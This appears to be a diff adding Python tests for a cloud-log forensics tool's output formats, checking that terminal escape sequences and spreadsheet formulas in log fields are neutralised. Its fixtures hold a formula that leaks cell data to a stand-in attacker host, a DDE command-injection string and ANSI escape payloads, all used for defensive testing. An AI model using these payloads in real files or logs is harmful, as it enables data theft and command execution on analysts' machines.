@@ -1,0 +1,90 @@
+"""Output formats round-trip, and hostile log content comes out neutralised."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from datetime import datetime, timezone
+
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pytest
+
+from trailforensics.output.formats import FORMATS, OutputError, to_bytes, write_table
+from trailforensics.output.sanitize import csv_safe, terminal_safe
+
+UTC = timezone.utc
+HOSTILE_UA = "\x1b[2J\x1b[31mevil\x07 agent\r\n"
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
+
+
+def sample_table() -> pa.Table:
+    return pa.table({
+        "event_time": pa.array([datetime(2026, 3, 10, 2, 13, 7, tzinfo=UTC),
+                                datetime(2026, 3, 10, 2, 13, 8, 123456, tzinfo=UTC)], pa.timestamp("us", tz="UTC")),
+        "actor": ["arn:aws:iam::1:user/a", "arn:aws:iam::1:user/b"],
+        "event_name": ["ListUsers", "GetObject"],
+        "user_agent": [HOSTILE_UA, "+cmd|' /C calc'!A0"],
+        "request": [FORMULA, None],
+        "count": [1, 2],
+        "ok": [True, None],
+    })
+
+
+def test_table_escapes_control_characters() -> None:
+    out = to_bytes(sample_table(), "table").decode()
+    assert "\x1b" not in out and "\x07" not in out
+    assert "\\x1b[2J" in out
+    assert "2 rows" in out
+    assert "2026-03-10T02:13:07Z" in out
+
+
+def test_csv_neutralises_formulas_and_round_trips() -> None:
+    text = to_bytes(sample_table(), "csv").decode()
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows[0]["request"] == "'" + FORMULA
+    assert rows[1]["user_agent"].startswith("'+cmd")
+    assert rows[0]["event_time"] == "2026-03-10T02:13:07Z"
+    assert rows[1]["event_time"] == "2026-03-10T02:13:08.123456Z"
+    assert rows[0]["user_agent"] == HOSTILE_UA  # not a formula: kept exactly (CSV quotes it)
+    for cell in (text.splitlines()[1:]):
+        assert not cell.startswith(("=", "+", "-", "@"))
+
+
+@pytest.mark.parametrize("fmt", ["json", "jsonl"])
+def test_json_keeps_values_exact(fmt: str) -> None:
+    text = to_bytes(sample_table(), fmt).decode()
+    rows = json.loads(text) if fmt == "json" else [json.loads(line) for line in text.splitlines()]
+    assert rows[0]["user_agent"] == HOSTILE_UA
+    assert rows[0]["request"] == FORMULA
+    assert rows[1]["event_time"] == "2026-03-10T02:13:08.123456Z"
+    assert rows[0]["ok"] is True and rows[1]["request"] is None
+
+
+def test_parquet_round_trip(tmp_path) -> None:  # type: ignore[no-untyped-def]
+    out = tmp_path / "x.parquet"
+    write_table(sample_table(), "parquet", out)
+    assert pq.read_table(out).equals(sample_table())
+    with pytest.raises(OutputError):
+        write_table(sample_table(), "parquet", None)
+
+
+def test_timesketch_lines() -> None:
+    lines = [json.loads(line) for line in to_bytes(sample_table(), "timesketch").decode().splitlines()]
+    assert lines[0]["datetime"] == "2026-03-10T02:13:07Z"
+    assert lines[0]["timestamp_desc"] == "Event Time"
+    assert lines[0]["message"] == "arn:aws:iam::1:user/a ListUsers"
+    assert lines[0]["user_agent"] == HOSTILE_UA
+
+
+def test_every_format_is_listed() -> None:
+    assert FORMATS == ("table", "csv", "json", "jsonl", "parquet", "timesketch")
+
+
+def test_sanitizers() -> None:
+    assert terminal_safe("a\x1b[0mb\u202ec") == "a\\x1b[0mb\\u202ec"
+    assert terminal_safe("tab\tnew\nline") == "tab\\tnew\\nline"
+    for bad in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
+        assert csv_safe(bad).startswith("'")
+    assert csv_safe("arn:aws:iam::1:user/x") == "arn:aws:iam::1:user/x"
